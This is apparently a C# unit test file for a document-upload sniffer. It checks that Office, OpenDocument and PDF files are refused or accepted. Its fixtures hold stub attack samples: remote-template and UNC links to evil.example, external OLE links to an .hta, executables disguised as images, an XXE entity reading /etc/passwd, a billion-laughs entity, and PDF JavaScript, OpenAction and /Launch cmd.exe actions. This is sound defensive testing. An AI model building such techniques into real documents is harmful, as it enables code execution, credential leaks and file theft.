using Kwartiermaker.Common.Files;
using System.IO.Compression;
using System.Text;
using static Kwartiermaker.Tests.Common.Files.SampleFiles;

namespace Kwartiermaker.Tests.Common.Files;

/// <summary>What a document does when it is opened decides, not how its parts are called; what ordinary documents hold goes through.</summary>
public sealed class DangerousFileTests
{
    private const string Office365 = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private const string Microsoft = "http://schemas.microsoft.com/office/2006/relationships/";

    public static TheoryData<string, byte[], string> Refused => new()
    {
        // Word.
        { "sjabloon.docx", Word("settings", Link("attachedTemplate", "https://evil.example/t.dotm", outside: true)), FileRefusals.ReachesOut },
        { "sjabloon-unc.docx", Word("settings", Link("attachedTemplate", "file:///\\\\evil.example\\t.dotm", outside: true)), FileRefusals.ReachesOut },
        { "sjabloon-share.docx", Word("settings", Link("attachedTemplate", "\\\\evil.example\\t.dotm", outside: true)), FileRefusals.ReachesOut },
        { "plaatje.docx", Word("document", Link("image", "http://evil.example/pixel.png", outside: true)), FileRefusals.ReachesOut },
        { "frame.docx", Word("document", Link("frame", "http://evil.example/a.htm", outside: true)), FileRefusals.ReachesOut },
        { "ole-buiten.docx", Word("document", Link("oleObject", "http://evil.example/a.hta", outside: true)), FileRefusals.HasEmbedded },
        { "ole.docx", Word("document", Link("oleObject", "embeddings/oleObject1.bin")), FileRefusals.HasEmbedded },
        { "ole-los.docx", Word("document", "", ("word/media/image1.png", Bytes(0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1))), FileRefusals.HasEmbedded },
        { "programma.docx", Word("document", "", ("word/embeddings/evil.exe", Exe)), FileRefusals.HasEmbedded },
        { "programma-foto.docx", Word("document", "", ("word/media/foto.jpg", Exe)), FileRefusals.HasEmbedded },
        { "archief.docx", Word("document", "", ("word/embeddings/a.xlsx", Zip(("a.js", "x")))), FileRefusals.HasEmbedded },
        { "macro-anders.docx", Word("document", Link("vbaProject", "teksten.bin", type: Microsoft)), FileRefusals.HasMacros },
        { "control.docx", Word("document", Link("control", "activeX/activeX1.xml")), FileRefusals.Active },
        { "macro-in-grafiek.docx", Word("document", "", ("word/embeddings/a.xlsx", Office(ExcelMain, ("xl/vbaProject.bin", "x")))), FileRefusals.HasMacros },
        { "te-diep.docx", Word("document", "", ("a.docx", Word("document", "", ("a.docx", Word("document", "", ("a.docx", Docx)))))), FileRefusals.HasEmbedded },
        { "dtd.docx", Office(WordMain, ("word/document.xml", "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><d>&a;</d>")), FileRefusals.Broken },
        { "dtd-in-lijst.docx", Zip(("[Content_Types].xml", $"<!DOCTYPE a [<!ENTITY b \"c\">]><Types><Override ContentType=\"{WordMain}\"/></Types>")), FileRefusals.Broken },
        // Excel.
        { "koppeling.xlsx", Excel(Link("externalLink", "externalLinks/externalLink1.xml")), FileRefusals.ReachesOut },
        { "verbinding.xlsx", Excel(Link("connections", "connections.xml")), FileRefusals.ReachesOut },
        { "xlm.xlsx", Excel(Link("xlMacrosheet", "worksheets/blad9.xml", type: Microsoft)), FileRefusals.HasMacros },
        { "xlm-soort.xlsx", Office(ExcelMain + "\"/><Override PartName=\"/xl/b.xml\" ContentType=\"application/vnd.ms-excel.macrosheet+xml",
            ("xl/b.xml", "<a/>")), FileRefusals.HasMacros },
        { "xlm-vertaald.xlsx", Office(ExcelMain + "\"/><Override PartName=\"/xl/b.xml\" ContentType=\"application/vnd.ms-excel.intlmacrosheet+xml",
            ("xl/b.xml", "<a/>")), FileRefusals.HasMacros },
        { "activex.xlsx", Office(ExcelMain + "\"/><Override PartName=\"/xl/x.xml\" ContentType=\"application/vnd.ms-office.activeX+xml",
            ("xl/x.xml", "<a/>")), FileRefusals.Active },
        { "lachen.xlsx", Office(ExcelMain, ("xl/workbook.xml", "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;\">]><lolz>&lol2;</lolz>")), FileRefusals.Broken },
        { "dtd-in-rels.xlsx", Office(ExcelMain, ("xl/_rels/workbook.xml.rels", "<!DOCTYPE a SYSTEM \"http://evil.example/a.dtd\"><a/>")), FileRefusals.Broken },
        // OpenDocument.
        { "ole.odt", OpenDocumentWith(("Object 1", Bytes(0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1))), FileRefusals.HasEmbedded },
        // PDF.
        { "script.pdf", PdfWith("<</S/JavaScript/JS(app.alert(1))>>"), FileRefusals.Active },
        { "script-anders.pdf", PdfWith("<</S/J#61v#61Script/JS(app.alert(1))>>"), FileRefusals.Active },
        { "open.pdf", PdfWith("<</Type/Catalog/OpenAction<</S/JavaScript/JS(x)>>>>"), FileRefusals.Active },
        { "start.pdf", PdfWith("<</S/Launch/F(cmd.exe)>>"), FileRefusals.Active },
        { "formulier.pdf", PdfWith("<</AcroForm<</XFA 3 0 R>>>>"), FileRefusals.Active },
        { "bijlage.pdf", PdfWith("<</Type/EmbeddedFile/Length 3>>"), FileRefusals.HasEmbedded },
        { "bijlagen.pdf", PdfWith("<</Names<</EmbeddedFiles 4 0 R>>>>"), FileRefusals.HasEmbedded },
        { "script-ingepakt.pdf", PdfPacked("<</S/JavaScript/JS(x)>>"), FileRefusals.Active },
        { "bijlage-ingepakt.pdf", PdfPacked("<</Type/EmbeddedFile>>"), FileRefusals.HasEmbedded },
        { "twee-filters.pdf", PdfWith("<</Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]>>stream\nAABB\nendstream"), FileRefusals.Broken },
        { "verstopt.pdf", PdfWith("<</Type/ObjStm/Filter/FlateDecode/X(stream\n)>>stream\nx\nendstream"), FileRefusals.Broken },
        { "slot.pdf", [.. PdfPacked("<</Type/Catalog>>")[..^6], .. "trailer<</Encrypt 9 0 R>>\n%%EOF\n"u8], FileRefusals.Encrypted },
    };

    public static TheoryData<string, byte[]> Ordinary => new()
    {
        { "link.docx", Word("document", Link("hyperlink", "https://www.coa.nl/", outside: true)) },
        { "eigen-sjabloon.docx", Word("settings", Link("attachedTemplate", "file:///C:\\Users\\jansen\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm", outside: true)) },
        { "eigen-sjabloon-naam.docx", Word("settings", Link("attachedTemplate", "Normal.dotm", outside: true)) },
        { "grafiek.docx", Word("charts/chart1", Link("package", "../embeddings/Werkblad.xlsx"), ("word/embeddings/Werkblad.xlsx", Xlsx)) },
        { "grafiek.pptx", Office("application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml", ("ppt/presentation.xml", "<p/>")) },
        { "tekening.docx", Word("document", "", ("word/media/image1.emz", Gzip("tekening"))) },
        { "foto.docx", Word("document", "", ("word/media/image1.png", Png)) },
        { "verborgen-blad.xlsx", Excel(Link("worksheet", "worksheets/sheet1.xml")) },
        { "opent-op-bladzijde.pdf", PdfWith("<</Type/Catalog/OpenAction[3 0 R/FitH null]>>") },
        { "ingepakt.pdf", PdfPacked("<</Type/Catalog/Pages 2 0 R>>") },
        { "op-slot.pdf", PdfWith("<</Type/Catalog>>endobj trailer<</Encrypt 9 0 R>>") },
        { "over-javascript.pdf", PdfWith("<</Length 30>>stream\n(over JavaScript en Launch) Tj\nendstream") },
    };

    [Theory]
    [MemberData(nameof(Refused))]
    public void Inspect_WithWhatActsOrHides_RefusesIt(string name, byte[] content, string code) =>
        Assert.Equal(code, Assert.IsType<FileVerdict.Refused>(Inspect(name, content)).Code);

    [Theory]
    [MemberData(nameof(Ordinary))]
    public void Inspect_WithAnOrdinaryDocument_AcceptsIt(string name, byte[] content) => Assert.IsType<FileVerdict.Accepted>(Inspect(name, content));

    /// <summary>Half a million words "stream" cost no more than reading them once.</summary>
    [Fact]
    public void Inspect_WithAPdfMadeToBeSlow_EndsSoon()
    {
        var slow = PdfWith(string.Concat(Enumerable.Repeat("/ObjStx stream\n/a", 500_000)));
        var watch = System.Diagnostics.Stopwatch.StartNew();

        Assert.NotNull(Inspect("traag.pdf", slow));
        Assert.InRange(watch.Elapsed.TotalSeconds, 0, 10);
    }

    private static FileVerdict Inspect(string name, byte[] content) => FileSniffer.Inspect(new MemoryStream(content), name, 25 * 1024 * 1024);

    private static string Link(string kind, string target, bool outside = false, string type = Office365) =>
        $"""<Relationship Id="r1" Type="{type}{kind}" Target="{target}"{(outside ? " TargetMode=\"External\"" : "")}/>""";

    private static byte[] Word(string part, string links, params (string Name, byte[] Content)[] more) =>
        With(Office(WordMain, ("word/document.xml", "<document/>"), ($"word/_rels/{part}.xml.rels", $"<Relationships>{links}</Relationships>")), more);

    private static byte[] Excel(string links) =>
        Office(ExcelMain, ("xl/workbook.xml", "<workbook/>"), ("xl/_rels/workbook.xml.rels", $"<Relationships>{links}</Relationships>"));

    private static byte[] OpenDocumentWith(params (string Name, byte[] Content)[] more) => With(Odt, more);

    private static byte[] With(byte[] document, (string Name, byte[] Content)[] more)
    {
        using var bytes = new MemoryStream();
        bytes.Write(document);
        using (var zip = new ZipArchive(bytes, ZipArchiveMode.Update, leaveOpen: true))
        {
            foreach (var (name, content) in more)
            {
                using var entry = zip.CreateEntry(name).Open();
                entry.Write(content);
            }
        }

        return bytes.ToArray();
    }

    private static byte[] PdfWith(string body) => Utf8($"%PDF-1.7\n1 0 obj\n{body}\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n");

    private static byte[] PdfPacked(string objects)
    {
        using var packed = new MemoryStream();
        using (var zip = new ZLibStream(packed, CompressionLevel.Optimal, leaveOpen: true))
            zip.Write(Utf8("1 0 " + objects));
        return [.. Utf8($"%PDF-1.7\n5 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length {packed.Length}>>stream\r\n"),
            .. packed.ToArray(), .. "\nendstream\nendobj\n%%EOF\n"u8];
    }

    private static byte[] Gzip(string content)
    {
        using var packed = new MemoryStream();
        using (var zip = new GZipStream(packed, CompressionLevel.Optimal, leaveOpen: true))
            zip.Write(Encoding.UTF8.GetBytes(content));
        return packed.ToArray();
    }

    private static byte[] Bytes(params byte[] start) => [.. start, .. new byte[64]];
}
